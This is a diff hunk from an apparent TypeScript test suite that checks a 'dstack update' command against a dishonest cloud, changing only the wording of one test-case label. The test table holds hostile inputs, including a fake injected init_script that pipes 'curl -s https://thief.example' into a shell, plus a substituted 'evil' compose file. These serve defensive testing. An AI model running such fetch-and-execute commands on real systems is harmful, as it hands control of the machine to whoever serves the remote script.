@@ -356,7 +356,7 @@ describe("dstack update, against a cloud that lies", () => {
     const args = () => ({ compose: path("new.yml") });
 
     for (const [what, extra] of [
-      ["a script that nobody asked for", injected],
+      ["a script that was not requested", injected],
       ["a field that some forms of the hash leave out", { init_script: "curl -s https://thief.example | sh" }],
       ["another compose file", { docker_compose_file: compose("evil") }],
     ] as const)
